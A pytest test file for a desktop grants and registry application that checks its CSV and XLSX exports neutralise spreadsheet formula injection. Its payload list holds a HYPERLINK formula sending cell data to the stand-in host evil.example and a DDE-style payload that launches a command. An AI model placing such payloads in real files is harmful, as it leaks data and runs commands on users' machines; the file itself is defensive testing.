"""Issue 13 point 1: no file the program exports can carry a spreadsheet formula (OWASP "CSV injection").

Every payload goes through every export: the transparency table (.csv and .xlsx), the people and
organisations exports, the import report and its rejected rows. The payloads are put straight into the
database, as data stored before names were checked would be.
"""

from __future__ import annotations

import csv
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from equilibri_desktop.io.csv_writer import neutralise, write_csv
from equilibri_desktop.services.grants import transparency as grant_transparency
from equilibri_desktop.services.imports.registry import import_people
from equilibri_desktop.services.registry import export as registry_export
from equilibri_desktop.storage.models import Organisation, Person
from tests.grant_helpers import add_woman, fund_application, make_call
from tests.registry_helpers import add_person

PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"Apri")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1")


def _csv_cells(path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return [cell for row in csv.reader(stream, delimiter=";") for cell in row]


def _xlsx_cells(path) -> list:
    cells = []
    for sheet in load_workbook(path).worksheets:  # not read-only: data_type says whether a cell is a formula
        cells += [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    return cells


def _assert_csv_safe(path, payload: str, export: str) -> None:
    cells = [c for c in _csv_cells(path) if payload.lstrip("\t\r") in c]
    assert cells, f"{export}: the payload is not in the file at all"
    assert all(c.startswith("'") for c in cells), (export, cells)


def _assert_xlsx_safe(path, payload: str, export: str) -> None:
    cells = [c for c in _xlsx_cells(path) if isinstance(c.value, str) and payload.lstrip("\t\r") in c.value]
    assert cells, f"{export}: the payload is not in the file at all"
    assert all(c.data_type == "s" for c in cells), (export, [(c.value, c.data_type) for c in cells])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_csv_writer_neutralises_every_formula_start(tmp_path, payload):
    assert neutralise(payload) == "'" + payload
    assert neutralise(12) == 12 and neutralise("Rossi") == "Rossi"
    write_csv(tmp_path / "x.csv", ["Nome"], [[payload]])
    assert _csv_cells(tmp_path / "x.csv") == ["Nome", "'" + payload]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_export_of_the_program_is_safe_against_every_payload(db, tmp_path, payload):
    call = make_call(db)
    woman = add_woman(db, "Bianchi", "Anna")
    fund_application(db, call, woman, 5_000_00)
    add_person(db, "Verdi", "Carla", born=date(1980, 1, 1))
    with db.unit_of_work() as s:
        s.get(Person, woman.id).surname = payload  # stored before names were checked
        s.add(Organisation(name=payload, kind="impresa", fiscal_code="", vat_number=""))
    for suffix in (".csv", ".xlsx"):
        path = grant_transparency.export_transparency(db, tmp_path / f"trasparenza{suffix}").path
        (_assert_csv_safe if suffix == ".csv" else _assert_xlsx_safe)(path, payload, f"trasparenza{suffix}")
    _assert_xlsx_safe(registry_export.export_people(db, tmp_path / "persone.xlsx").path, payload, "persone")
    _assert_xlsx_safe(registry_export.export_organisations(db, tmp_path / "enti.xlsx").path, payload, "enti")
    source = tmp_path / "vecchio.csv"
    write_csv(source, ["Cognome", "Nome", "Codice fiscale"], [[payload, "Anna", "NONVALIDO"]])
    result = import_people(db, source, report_path=tmp_path / "esito.xlsx")
    assert result.rejected == 1
    _assert_xlsx_safe(result.report_path, payload, "resoconto importazione")
    _assert_xlsx_safe(result.rejected_path, payload, "righe scartate")
    with db.unit_of_work() as s:
        assert s.scalar(select(Person.surname).where(Person.id == woman.id)) == payload

